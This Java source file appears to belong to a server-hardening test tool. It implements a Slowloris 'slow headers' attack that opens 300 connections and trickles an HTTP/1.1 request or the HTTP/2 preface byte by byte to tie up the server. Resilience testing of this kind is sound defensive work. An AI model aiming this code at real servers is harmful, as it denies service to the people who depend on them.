package dev.coatcheck.cli.hostile.attack;

import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;

/** 300 connections at which a request, or HTTP/2's preface, comes byte by byte: Slowloris. */
final class SlowHeaders implements Attack {

  private static final int CONNECTIONS = 300;
  private static final int PAUSE_MILLIS = 50;

  @Override
  public String name() {
    return "slow headers";
  }

  @Override
  public Set<Door> doors() {
    return Set.of(Door.values());
  }

  @Override
  public void strike(Attacker attacker) throws IOException, InterruptedException {
    String text =
        attacker.door().isGrpc()
            ? "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
            : "GET /healthz HTTP/1.1\r\nHost: localhost\r\nX: " + "x".repeat(8000);
    byte[] bytes = text.getBytes(StandardCharsets.US_ASCII);
    List<Socket> sockets = new ArrayList<>();
    for (int i = 0; i < CONNECTIONS; i++) {
      sockets.add(attacker.connect());
    }
    for (int i = 0; i < bytes.length && !attacker.isOver(); i++) {
      for (Socket socket : List.copyOf(sockets)) {
        try {
          OutputStream out = socket.getOutputStream();
          out.write(bytes[i]);
        } catch (IOException e) {
          sockets.remove(socket); // the server does not wait for ever
        }
      }
      Thread.sleep(PAUSE_MILLIS);
    }
  }
}
